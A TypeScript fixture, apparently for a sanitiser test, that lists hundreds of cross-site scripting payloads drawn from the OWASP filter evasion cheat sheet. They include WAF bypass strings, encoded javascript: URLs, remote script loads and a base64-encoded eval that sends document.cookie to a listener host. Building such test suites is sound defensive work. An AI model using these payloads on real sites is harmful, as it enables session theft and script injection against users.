/**
 * Cross-site scripting payloads for topic descriptions, after the OWASP Cheat
 * Sheet Series, "XSS Filter Evasion Cheat Sheet"
 * (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html,
 * originally RSnake's XSS cheat sheet), including its "WAF bypass strings",
 * its list of event handlers and its escape sequences for "<", plus
 * well-known mutation-XSS vectors (noscript, template, xmp, plaintext,
 * textarea, svg and math namespace confusion) that target sanitisers.
 *
 * Every payload the cheat sheet gives that can be written as a string is here.
 * Where the original loads a remote script (xss.rocks, ha.ckers.org) the
 * payload keeps its evasion trick but, wherever the trick allows, runs
 * `alert(…)` inline instead (a `data:` script, an event handler), so a browser
 * test can tell it ran by listening for dialogs. A few remote-only vectors
 * (remote style sheets, .htc behaviours, `//host` scripts) keep their URL: they
 * can only be observed as a request.
 *
 * None of these may survive the sanitiser in a form that can run script or
 * load content (see xss.test.ts).
 */
export type XssPayload = { name: string; html: string }

/** A JavaScript URL that shows a dialog. */
const JS = "javascript:alert('XSS')"
/** `<script>alert(1)</script>` in base64, for data: URLs. */
const SCRIPT_BASE64 = 'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='

/** `javascript:alert('XSS')` as decimal character references, optionally zero-padded and without semicolons. */
function decimalRefs(text: string, pad: number, semicolon: boolean): string {
  return [...text]
    .map((c) => `&#${String(c.charCodeAt(0)).padStart(pad, '0')}${semicolon ? ';' : ''}`)
    .join('')
}

/** `javascript:alert('XSS')` as hexadecimal character references. */
function hexRefs(text: string, semicolon: boolean): string {
  return [...text]
    .map((c) => `&#x${c.charCodeAt(0).toString(16).toUpperCase()}${semicolon ? ';' : ''}`)
    .join('')
}

/** The cheat sheet's event handlers (FSCommand and seekSegmentTime are methods, not attributes). */
const OWASP_EVENT_HANDLERS = [
  'onAbort',
  'onActivate',
  'onAfterPrint',
  'onAfterUpdate',
  'onBeforeActivate',
  'onBeforeCopy',
  'onBeforeCut',
  'onBeforeDeactivate',
  'onBeforeEditFocus',
  'onBeforePaste',
  'onBeforePrint',
  'onBeforeUnload',
  'onBeforeUpdate',
  'onBegin',
  'onBlur',
  'onBounce',
  'onCellChange',
  'onChange',
  'onClick',
  'onContextMenu',
  'onControlSelect',
  'onCopy',
  'onCut',
  'onDataAvailable',
  'onDataSetChanged',
  'onDataSetComplete',
  'onDblClick',
  'onDeactivate',
  'onDrag',
  'onDragEnd',
  'onDragLeave',
  'onDragEnter',
  'onDragOver',
  'onDragDrop',
  'onDragStart',
  'onDrop',
  'onEnd',
  'onError',
  'onErrorUpdate',
  'onFilterChange',
  'onFinish',
  'onFocus',
  'onFocusIn',
  'onFocusOut',
  'onHashChange',
  'onHelp',
  'onInput',
  'onKeyDown',
  'onKeyPress',
  'onKeyUp',
  'onLayoutComplete',
  'onLoad',
  'onLoseCapture',
  'onMediaComplete',
  'onMediaError',
  'onMessage',
  'onMouseDown',
  'onMouseEnter',
  'onMouseLeave',
  'onMouseMove',
  'onMouseOut',
  'onMouseOver',
  'onMouseUp',
  'onMouseWheel',
  'onMove',
  'onMoveEnd',
  'onMoveStart',
  'onOffline',
  'onOnline',
  'onOutOfSync',
  'onPaste',
  'onPause',
  'onPopState',
  'onProgress',
  'onPropertyChange',
  'onReadyStateChange',
  'onRedo',
  'onRepeat',
  'onReset',
  'onResize',
  'onResizeEnd',
  'onResizeStart',
  'onResume',
  'onReverse',
  'onRowsEnter',
  'onRowExit',
  'onRowDelete',
  'onRowInserted',
  'onScroll',
  'onSeek',
  'onSelect',
  'onSelectionChange',
  'onSelectStart',
  'onStart',
  'onStop',
  'onStorage',
  'onSyncRestored',
  'onSubmit',
  'onTimeError',
  'onTrackChange',
  'onUndo',
  'onUnload',
  'onURLFlip',
] as const

/** The cheat sheet's spellings of "<" (without the raw one), each put in front of `script>alert(1)…`. */
const LESS_THAN_ESCAPES = [
  '%3C',
  '&lt',
  '&lt;',
  '&LT',
  '&LT;',
  '&#60',
  '&#060',
  '&#0000060',
  '&#60;',
  '&#0000060;',
  '&#x3c',
  '&#x000003c',
  '&#x3c;',
  '&#X3C',
  '&#X000003C;',
  '\\x3c',
  '\\u003c',
] as const

const CHEAT_SHEET: XssPayload[] = [
  // Basic XSS test without filter evasion, and the XSS locator polyglot.
  {
    name: 'script src remote',
    html: '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
  },
  { name: 'script inline', html: '<script>alert(1)</script>' },
  { name: 'script mixed case', html: '<ScRiPt>alert(1)</sCrIpT>' },
  { name: 'script src data', html: '<script src="data:text/javascript,alert(1)"></script>' },
  {
    name: 'polyglot locator',
    html: "javascript:/*--></title></style></textarea></script></xmp>\n<svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
  },
  // Malformed A tags.
  { name: 'a onmouseover quoted', html: '<a onmouseover="alert(document.cookie)">xxs link</a>' },
  { name: 'a onmouseover unquoted', html: '<a onmouseover=alert(document.cookie)>xxs link</a>' },
  // Malformed IMG tags, fromCharCode, default SRC.
  { name: 'img triple quote script', html: '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>' },
  {
    name: 'img src fromCharCode',
    html: '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  },
  { name: 'img default src #', html: '<IMG SRC=# onmouseover="alert(\'xxs\')">' },
  { name: 'img empty src', html: '<IMG SRC= onmouseover="alert(\'xxs\')">' },
  { name: 'img no src', html: '<IMG onmouseover="alert(\'xxs\')">' },
  {
    name: 'img onerror fromCharCode',
    html: '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  },
  { name: 'img onerror plain', html: '<img src=x onerror=alert(1)>' },
  {
    name: 'img onerror encoded',
    html: `<img src=x onerror="${decimalRefs("javascript:alert('XSS')", 7, false)}">`,
  },
  // javascript: in image sources, in every encoding.
  { name: 'img src javascript', html: `<IMG SRC="${JS};">` },
  { name: 'img src javascript unquoted', html: "<IMG SRC=javascript:alert('XSS')>" },
  { name: 'img src javascript mixed case', html: "<IMG SRC=JaVaScRiPt:alert('XSS')>" },
  { name: 'img src grave accents', html: '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>' },
  { name: 'img src decimal refs', html: `<IMG SRC=${decimalRefs(JS, 0, true)}>` },
  { name: 'img src decimal refs no semicolon', html: `<IMG SRC=${decimalRefs(JS, 7, false)}>` },
  { name: 'img src hex refs no semicolon', html: `<IMG SRC=${hexRefs(JS, false)}>` },
  { name: 'img src embedded tab', html: `<IMG SRC="jav\tascript:alert('XSS');">` },
  { name: 'img src encoded tab', html: `<IMG SRC="jav&#x09;ascript:alert('XSS');">` },
  { name: 'img src encoded newline', html: `<IMG SRC="jav&#x0A;ascript:alert('XSS');">` },
  { name: 'img src encoded cr', html: `<IMG SRC="jav&#x0D;ascript:alert('XSS');">` },
  { name: 'img src null char', html: '<IMG SRC=java\u0000script:alert("XSS")>' },
  { name: 'img src meta chars before', html: `<IMG SRC=" &#14;  javascript:alert('XSS');">` },
  { name: 'img src half open', html: `<IMG SRC="\`<javascript:alert>\`('XSS')"` },
  { name: 'img dynsrc', html: `<IMG DYNSRC="${JS}">` },
  { name: 'img lowsrc', html: `<IMG LOWSRC="${JS}">` },
  { name: 'img src vbscript', html: '<IMG SRC=\'vbscript:msgbox("XSS")\'>' },
  { name: 'img src livescript', html: '<IMG SRC="livescript:alert(\'XSS\')">' },
  // Non-alpha-non-digit, extraneous brackets, missing closing tags.
  {
    name: 'script slash attribute',
    html: '<SCRIPT/XSS SRC="data:text/javascript,alert(1)"></SCRIPT>',
  },
  { name: 'script slash src', html: '<SCRIPT/SRC="data:text/javascript,alert(1)"></SCRIPT>' },
  { name: 'body onload junk chars', html: '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>' },
  { name: 'extraneous open bracket', html: '<<SCRIPT>alert("XSS");//\\<</SCRIPT>' },
  { name: 'script no closing tag', html: '<SCRIPT SRC=http://xss.rocks/xss.js?< B >' },
  { name: 'script protocol relative', html: '<SCRIPT SRC=//xss.rocks/.j>' },
  { name: 'iframe double open bracket', html: `<iframe src="${JS}" <` },
  { name: 'escaped js escape', html: "\\\";alert('XSS');//" },
  { name: 'close script open script', html: "</script><script>alert('XSS');</script>" },
  { name: 'end title tag', html: '</TITLE><SCRIPT>alert("XSS");</SCRIPT>' },
  // Elements with URL attributes.
  { name: 'input type image', html: `<INPUT TYPE="IMAGE" SRC="${JS};">` },
  { name: 'body background', html: `<BODY BACKGROUND="${JS}">` },
  {
    name: 'style list-style-image',
    html: `<STYLE>li {list-style-image: url("${JS}");}</STYLE><UL><LI>XSS</br>`,
  },
  { name: 'svg onload', html: "<svg/onload=alert('XSS')>" },
  {
    name: 'es6 tagged template',
    html: '<script>Set.constructor`alert\\x28document.domain\\x29```</script>',
  },
  { name: 'body onload', html: "<BODY ONLOAD=alert('XSS')>" },
  { name: 'body onload space before =', html: "<BODY ONLOAD =alert('XSS')>" },
  { name: 'bgsound', html: `<BGSOUND SRC="${JS};">` },
  { name: 'br size js include', html: '<BR SIZE="&{alert(\'XSS\')}">' },
  // Style sheets.
  { name: 'link stylesheet javascript', html: `<LINK REL="stylesheet" HREF="${JS};">` },
  {
    name: 'link stylesheet remote',
    html: '<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">',
  },
  { name: 'style import remote', html: "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>" },
  {
    name: 'meta link header',
    html: '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
  },
  {
    name: 'style moz-binding',
    html: '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
  },
  {
    name: 'style import escaped js',
    html: '<STYLE>@im\\port\'\\ja\\vasc\\ript:alert("XSS")\';</STYLE>',
  },
  {
    name: 'img style expression comment',
    html: '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  },
  {
    name: 'a style expression',
    html: 'exp/*<A STYLE=\'no\\xss:noxss("*//*");\nxss:ex/*XSS*//*/*/pression(alert("XSS"))\'>',
  },
  { name: 'style type javascript', html: '<STYLE TYPE="text/javascript">alert(\'XSS\');</STYLE>' },
  {
    name: 'style class background-image',
    html: `<STYLE>.XSS{background-image:url("${JS}");}</STYLE><A CLASS=XSS></A>`,
  },
  {
    name: 'style body background',
    html: `<STYLE type="text/css">BODY{background:url("${JS}")}</STYLE>`,
  },
  {
    name: 'style body background half open',
    html: '<STYLE type="text/css">BODY{background:url("<javascript:alert>(\'XSS\')")}</STYLE>',
  },
  { name: 'anonymous tag style expression', html: '<XSS STYLE="xss:expression(alert(\'XSS\'))">' },
  { name: 'anonymous tag behavior htc', html: '<XSS STYLE="behavior: url(xss.htc);">' },
  {
    name: 'us-ascii encoding',
    html: '\u00bcscript\u00bealert(\u00a2XSS\u00a2)\u00bc/script\u00be',
  },
  // META.
  { name: 'meta refresh javascript', html: `<META HTTP-EQUIV="refresh" CONTENT="0;url=${JS};">` },
  {
    name: 'meta refresh data',
    html: `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,${SCRIPT_BASE64}">`,
  },
  {
    name: 'meta refresh extra url',
    html: `<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=${JS};">`,
  },
  {
    name: 'meta set-cookie',
    html: '<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(\'XSS\')</SCRIPT>">',
  },
  {
    name: 'utf-7',
    html: '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert(\'XSS\');+ADw-/SCRIPT+AD4-',
  },
  // Frames, tables, divs.
  { name: 'iframe src javascript', html: `<IFRAME SRC="${JS};"></IFRAME>` },
  {
    name: 'iframe onmouseover',
    html: '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  },
  { name: 'frameset frame', html: `<FRAMESET><FRAME SRC="${JS};"></FRAMESET>` },
  { name: 'table background', html: `<TABLE BACKGROUND="${JS}">` },
  { name: 'td background', html: `<TABLE><TD BACKGROUND="${JS}">` },
  { name: 'div background-image', html: `<DIV STYLE="background-image: url(${JS})">` },
  {
    name: 'div background-image unicode',
    html: '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">',
  },
  {
    name: 'div background-image extra chars',
    html: `<DIV STYLE="background-image: url(&#1;${JS})">`,
  },
  { name: 'div expression', html: '<DIV STYLE="width: expression(alert(\'XSS\'));">' },
  { name: 'div expression newline', html: '<DIV STYLE="width:\nexpression(alert(\'XSS\'));">' },
  { name: 'p style background url', html: `<p style="background:url(${JS})">styled</p>` },
  // Comments, BASE, OBJECT, EMBED, XML.
  {
    name: 'downlevel-hidden comment',
    html: "<!--[if gte IE 4]>\n<SCRIPT>alert('XSS');</SCRIPT>\n<![endif]-->",
  },
  { name: 'base href javascript', html: `<BASE HREF="${JS};//">` },
  {
    name: 'object scriptlet',
    html: '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  },
  {
    name: 'embed flash',
    html: '<EMBED SRC="http://ha.ckers.org/xss.swf" AllowScriptAccess="always"></EMBED>',
  },
  {
    name: 'embed svg data',
    html: '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  },
  {
    name: 'actionscript obfuscation',
    html: '<script>a="get";b="URL(\\"";c="javascript:";d="alert(\'XSS\');\\")";eval(a+b+c+d);</script>',
  },
  {
    name: 'xml data island cdata',
    html: '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>\n<SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>',
  },
  {
    name: 'xml data island remote',
    html: '<XML SRC="xsstest.xml" ID=I></XML>\n<SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>',
  },
  {
    name: 'html+time',
    html: '<HTML><BODY>\n<?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time">\n<?import namespace="t" implementation="#default#time2">\n<t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert("XSS")</SCRIPT>">\n</BODY></HTML>',
  },
  { name: 'script src jpg', html: '<SCRIPT SRC="http://xss.rocks/xss.jpg"></SCRIPT>' },
  {
    name: 'ssi',
    html: '<!--#exec cmd="/bin/echo \'<SCR\'"--><!--#exec cmd="/bin/echo \'IPT SRC=http://xss.rocks/xss.js></SCRIPT>\'"-->',
  },
  { name: 'php', html: "<? echo('<SCR)';\necho('IPT>alert(\"XSS\")</SCRIPT>'); ?>" },
  {
    name: 'img embedded command',
    html: '<IMG SRC="http://www.thesiteyouareon.com/somecommand.php?somevariables=maliciouscode">',
  },
  // HTML quote encapsulation.
  { name: 'script quoted gt', html: '<SCRIPT a=">" SRC="data:text/javascript,alert(1)"></SCRIPT>' },
  {
    name: 'script empty attr gt',
    html: '<SCRIPT =">" SRC="data:text/javascript,alert(1)"></SCRIPT>',
  },
  {
    name: 'script quoted gt and empty quotes',
    html: '<SCRIPT a=">" \'\' SRC="data:text/javascript,alert(1)"></SCRIPT>',
  },
  {
    name: 'script quoted single in double',
    html: '<SCRIPT "a=\'>\'" SRC="data:text/javascript,alert(1)"></SCRIPT>',
  },
  {
    name: 'script grave accent gt',
    html: '<SCRIPT a=`>` SRC="data:text/javascript,alert(1)"></SCRIPT>',
  },
  {
    name: 'script mismatched quotes',
    html: '<SCRIPT a=">\'>" SRC="data:text/javascript,alert(1)"></SCRIPT>',
  },
  {
    name: 'script document.write split',
    html: '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="data:text/javascript,alert(1)"></SCRIPT>',
  },
  { name: 'script regex source', html: '<SCRIPT>a=/XSS/\nalert(a.source)</SCRIPT>' },
  // URL string evasion: links that must survive as ordinary http links (or lose a relative URL).
  { name: 'a ip address', html: '<A HREF="http://66.102.7.147/">XSS</A>' },
  {
    name: 'a url encoding',
    html: '<A HREF="http://%77%77%77%2E%67%6F%6F%67%6C%65%2E%63%6F%6D">XSS</A>',
  },
  { name: 'a dword', html: '<A HREF="http://1113982867/">XSS</A>' },
  { name: 'a hex ip', html: '<A HREF="http://0x42.0x0000066.0x7.0x93/">XSS</A>' },
  { name: 'a octal ip', html: '<A HREF="http://0102.0146.0007.00000223/">XSS</A>' },
  {
    name: 'img onload base64 eval',
    html: '<img onload="eval(atob(\'ZG9jdW1lbnQubG9jYXRpb249Imh0dHA6Ly9saXN0ZXJuSVAvIitkb2N1bWVudC5jb29raWU=\'))">',
  },
  { name: 'a mixed encoding', html: '<A HREF="h \ntt  p://6\t6.000146.0x7.147/">XSS</A>' },
  { name: 'a protocol relative', html: '<A HREF="//www.google.com/">XSS</A>' },
  { name: 'a feeling lucky 1', html: '<A HREF="//google">XSS</A>' },
  { name: 'a feeling lucky 2', html: '<A HREF="http://ha.ckers.org@google">XSS</A>' },
  { name: 'a feeling lucky 3', html: '<A HREF="http://google:ha.ckers.org">XSS</A>' },
  { name: 'a absolute dns dot', html: '<A HREF="http://www.google.com./">XSS</A>' },
  {
    name: 'a javascript location',
    html: '<A HREF="javascript:document.location=\'http://www.google.com/\'">XSS</A>',
  },
  { name: 'a content replace', html: '<A HREF="http://www.google.com/ogle.com/">XSS</A>' },
  {
    name: 'a parameter pollution',
    html: '<a href="/share?content_type=1&title=This is a regular title&amp;content_type=1;alert(1)">Share</a>',
  },
  // WAF bypass strings.
  {
    name: 'waf img onerror throw',
    html: '<Img src = x onerror = "javascript: window.onerror = alert; throw XSS">',
  },
  {
    name: 'waf video source onerror',
    html: '<Video> <source onerror = "javascript: alert (XSS)">',
  },
  { name: 'waf input', html: '<Input value = "XSS" type = text>' },
  { name: 'waf applet', html: '<applet code="javascript:confirm(document.cookie);">' },
  { name: 'waf isindex', html: '<isindex x="javascript:" onmouseover="alert(XSS)">' },
  {
    name: 'waf break out script',
    html: '"></SCRIPT>\u201d>\u2019><SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>',
  },
  { name: 'waf img x:x', html: '"><img src="x:x" onerror="alert(XSS)">' },
  { name: 'waf break out iframe', html: '"><iframe src="javascript:alert(XSS)">' },
  { name: 'waf object data', html: '<object data="javascript:alert(XSS)">' },
  { name: 'waf isindex image', html: '<isindex type=image src=1 onerror=alert(XSS)>' },
  { name: 'waf img eval src', html: '<img src=x:alert(alt) onerror=eval(src) alt=0>' },
  {
    name: 'waf img unicode escape',
    html: '<img  src="x:gif" onerror="window[\'al\\u0065rt\'](0)"></img>',
  },
  { name: 'waf iframe data svg', html: '<iframe/src="data:text/html,<svg onload=alert(1)>">' },
  {
    name: 'waf meta newline entities',
    html: '<meta content="&NewLine; 1 &NewLine;; JAVASCRIPT&colon; alert(1)" http-equiv="refresh"/>',
  },
  {
    name: 'waf svg script xlink',
    html: "<svg><script xlink:href=data&colon;,window.open('https://www.google.com/')></script",
  },
  {
    name: 'waf meta refresh confirm',
    html: '<meta http-equiv="refresh" content="0;url=javascript:confirm(1)">',
  },
  {
    name: 'waf iframe named entities',
    html: '<iframe src=javascript&colon;alert&lpar;document&period;location&rpar;>',
  },
  { name: 'waf form a unicode', html: '<form><a href="javascript:\\u0061lert(1)">X' },
  {
    name: 'waf img comment null',
    html: '</script><img/*\u0000/src="worksinchrome&colon;prompt(1)"/\u0000*/onerror=\'eval(src)\'>',
  },
  {
    name: 'waf style comment expression',
    html: '<style>//*{x:expression(alert(/xss/))}//<style></style>',
  },
  { name: 'waf img title quote', html: '<img src="/" =_=" title="onerror=\'prompt(1)\'">' },
  {
    name: 'waf a many attributes',
    html: '<a aa aaa aaaa aaaaa aaaaaa aaaaaaa aaaaaaaa aaaaaaaaa aaaaaaaaaa href=j&#97v&#97script:&#97lert(1)>ClickMe',
  },
  { name: 'waf script x attribute', html: '<script x> alert(1) </script 1=2' },
  {
    name: 'waf button formaction',
    html: '<form><button formaction=javascript&colon;alert(1)>CLICKME',
  },
  {
    name: 'waf input onmouseover',
    html: '<input/onmouseover="javaSCRIPT&colon;confirm&lpar;1&rpar;"',
  },
  {
    name: 'waf iframe data percent',
    html: '<iframe src="data:text/html,%3C%73%63%72%69%70%74%3E%61%6C%65%72%74%28%31%29%3C%2F%73%63%72%69%70%74%3E"></iframe>',
  },
  {
    name: 'waf object classid',
    html: '<OBJECT CLASSID="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><PARAM NAME="DataURL" VALUE="javascript:alert(1)"></OBJECT>',
  },
  // The cheat sheet's alert obfuscations, each in a handler.
  { name: 'obfuscated (alert)(1)', html: '<img src=x onerror="(alert)(1)">' },
  { name: 'obfuscated a=alert', html: '<img src=x onerror="a=alert,a(1)">' },
  { name: 'obfuscated find', html: '<img src=x onerror="[1].find(alert)">' },
  { name: 'obfuscated concat', html: "<img src=x onerror=\"top['al'+'ert'](1)\">" },
  {
    name: 'obfuscated regex source',
    html: '<img src=x onerror="top[/al/.source+/ert/.source](1)">',
  },
  { name: 'obfuscated octal escape', html: '<img src=x onerror="top[\'al\\145rt\'](1)">' },
  { name: 'obfuscated toString', html: '<img src=x onerror="top[8680439..toString(30)](1)">' },
  { name: 'obfuscated optional call', html: '<img src=x onerror="alert?.()">' },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is a template literal in JavaScript
  { name: 'obfuscated template', html: '<img src=x onerror="`${alert``}`">' },
]

/** `javascript:` and friends in a link, the one URL attribute the editor keeps. */
const LINKS: XssPayload[] = [
  { name: 'href javascript', html: '<a href="javascript:alert(1)">click</a>' },
  { name: 'href javascript unquoted', html: '<a href=javascript:alert(1)>click</a>' },
  { name: 'href javascript single quoted', html: "<a href='javascript:alert(1)'>click</a>" },
  { name: 'href javascript mixed case', html: '<a href="JaVaScRiPt:alert(1)">click</a>' },
  { name: 'href javascript upper case', html: '<A HREF="JAVASCRIPT:alert(1)">click</A>' },
  { name: 'href leading spaces', html: '<a href="  javascript:alert(1)">click</a>' },
  { name: 'href embedded tab', html: '<a href="jav\tascript:alert(1)">click</a>' },
  { name: 'href embedded newline', html: '<a href="jav\nascript:alert(1)">click</a>' },
  { name: 'href embedded cr', html: '<a href="jav\rascript:alert(1)">click</a>' },
  { name: 'href embedded null', html: '<a href="java\u0000script:alert(1)">click</a>' },
  {
    name: 'href leading control chars',
    html: '<a href="\u0001\u0002\u0003javascript:alert(1)">click</a>',
  },
  { name: 'href encoded tab', html: '<a href="jav&#x09;ascript:alert(1)">click</a>' },
  { name: 'href encoded newline', html: '<a href="jav&#x0A;ascript:alert(1)">click</a>' },
  { name: 'href encoded cr', html: '<a href="jav&#x0D;ascript:alert(1)">click</a>' },
  { name: 'href named tab entity', html: '<a href="jav&Tab;ascript:alert(1)">click</a>' },
  { name: 'href named newline entity', html: '<a href="jav&NewLine;ascript:alert(1)">click</a>' },
  { name: 'href encoded meta char', html: '<a href="&#14;  javascript:alert(1)">click</a>' },
  { name: 'href colon entity', html: '<a href="javascript&colon;alert(1)">click</a>' },
  {
    name: 'href decimal refs',
    html: `<a href="${decimalRefs('javascript:alert(1)', 0, true)}">click</a>`,
  },
  {
    name: 'href decimal refs padded',
    html: `<a href="${decimalRefs('javascript:alert(1)', 7, false)}">click</a>`,
  },
  { name: 'href hex refs', html: `<a href="${hexRefs('javascript:alert(1)', true)}">click</a>` },
  {
    name: 'href hex refs no semicolon',
    html: `<a href="${hexRefs('javascript:alert(1)', false)}">click</a>`,
  },
  { name: 'href partly encoded', html: '<a href="j&#97v&#97script:&#97lert(1)">click</a>' },
  { name: 'href encoded scheme colon', html: '<a href="javascript&#58;alert(1)">click</a>' },
  { name: 'href encoded scheme colon hex', html: '<a href="javascript&#x3a;alert(1)">click</a>' },
  { name: 'href double encoded', html: '<a href="javascript&amp;colon;alert(1)">click</a>' },
  {
    name: 'href url encoded scheme',
    html: '<a href="%6A%61%76%61%73%63%72%69%70%74:alert(1)">click</a>',
  },
  { name: 'href nbsp before', html: '<a href="&nbsp;javascript:alert(1)">click</a>' },
  { name: 'href zero width space', html: '<a href="\u200bjavascript:alert(1)">click</a>' },
  { name: 'href vbscript', html: '<a href="vbscript:msgbox(1)">click</a>' },
  { name: 'href livescript', html: '<a href="livescript:alert(1)">click</a>' },
  {
    name: 'href data html base64',
    html: `<a href="data:text/html;base64,${SCRIPT_BASE64}">click</a>`,
  },
  { name: 'href data html', html: '<a href="data:text/html,<script>alert(1)</script>">click</a>' },
  { name: 'href data svg', html: '<a href="data:image/svg+xml,<svg onload=alert(1)>">click</a>' },
  { name: 'href file', html: '<a href="file:///etc/passwd">click</a>' },
  { name: 'href blob', html: '<a href="blob:https://example.com/1">click</a>' },
  { name: 'href protocol relative backslashes', html: '<a href="\\\\evil.example/x">click</a>' },
  {
    name: 'href http then javascript',
    html: '<a href="javascript:alert(1)//http://example.com">click</a>',
  },
  {
    name: 'href duplicate attribute',
    html: '<a href="javascript:alert(1)" href="https://example.com">click</a>',
  },
  {
    name: 'href allowed with handler',
    html: '<a href="https://example.com" onmouseover="alert(1)" style="color:red">click</a>',
  },
  {
    name: 'href allowed breaking quote',
    html: '<a href="https://example.com/&quot;onmouseover=&quot;alert(1)">click</a>',
  },
  {
    name: 'title breaking out',
    html: '<a href="https://example.com" title="</a><img src=x onerror=alert(1)>">z</a>',
  },
  {
    name: 'nested links',
    html: '<a href="https://example.com">a<a href="javascript:alert(1)">b</a></a>',
  },
  {
    name: 'a target and rel',
    html: '<a href="https://example.com" target="_self" rel="opener">x</a>',
  },
  {
    name: 'svg a xlink href',
    html: '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  },
  { name: 'math a xlink href', html: '<math><a xlink:href="javascript:alert(1)">click</a></math>' },
  {
    name: 'math maction',
    html: '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click</maction></math>',
  },
  {
    name: 'area href',
    html: `<map name="m"><area shape="rect" coords="0,0,100,100" href="${JS}"></map>`,
  },
  { name: 'form action', html: `<form action="${JS}"><input type="submit"></form>` },
  { name: 'button formaction', html: `<form><button formaction="${JS}">x</button></form>` },
  {
    name: 'input formaction',
    html: `<form><input type="submit" formaction="${JS}" value="x"></form>`,
  },
  { name: 'iframe src', html: `<iframe src=${JS}></iframe>` },
  {
    name: 'iframe srcdoc',
    html: '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  },
  { name: 'object data javascript', html: `<object data="${JS}"></object>` },
  {
    name: 'object data html base64',
    html: `<object data="data:text/html;base64,${SCRIPT_BASE64}"></object>`,
  },
  { name: 'embed src javascript', html: `<embed src="${JS}">` },
  { name: 'embed src data', html: `<embed src="data:text/html;base64,${SCRIPT_BASE64}">` },
  { name: 'base href', html: '<base href="javascript:alert(1)//"><a href="x">x</a>' },
  {
    name: 'link import',
    html: '<link rel="import" href="data:text/html,<script>alert(1)</script>">',
  },
  { name: 'script xlink href', html: '<svg><script href="data:,alert(1)"></script></svg>' },
  {
    name: 'svg use href',
    html: '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
  },
  {
    name: 'svg animate href',
    html: '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>',
  },
  {
    name: 'svg set href',
    html: '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">x</text></a></svg>',
  },
  { name: 'isindex action', html: `<isindex action="${JS}" type="image">` },
  { name: 'ol start', html: '<ol start="javascript:alert(1)" onclick="alert(1)"><li>x</li></ol>' },
]

/** Handlers that fire on their own, and other HTML5-era vectors. */
const HANDLERS: XssPayload[] = [
  { name: 'p onclick', html: '<p onclick="alert(1)" onmouseover="alert(2)">hover</p>' },
  { name: 'img onerror no quotes slash', html: '<img/src/onerror=alert(1)>' },
  { name: 'img onerror backtick', html: '<img src=x onerror=alert`1`>' },
  { name: 'img srcset onerror', html: '<img srcset=x onerror=alert(1)>' },
  {
    name: 'img onerror entity encoded',
    html: '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">',
  },
  {
    name: 'picture source onerror',
    html: '<picture><source srcset=x onerror=alert(1)><img src=x></picture>',
  },
  { name: 'image tag onerror', html: '<image src=x onerror=alert(1)>' },
  { name: 'svg onload space', html: '<svg onload=alert(1)>' },
  { name: 'svg onload newline', html: '<svg\nonload=alert(1)>' },
  { name: 'svg onload form feed', html: '<svg\fonload=alert(1)>' },
  { name: 'svg image onerror', html: '<svg><image href=x onerror=alert(1)></image></svg>' },
  { name: 'svg animate onbegin', html: '<svg><animate onbegin=alert(1) attributeName=x dur=1s>' },
  { name: 'svg set onbegin', html: '<svg><set onbegin=alert(1) attributeName=x to=1>' },
  {
    name: 'svg foreignobject',
    html: '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  },
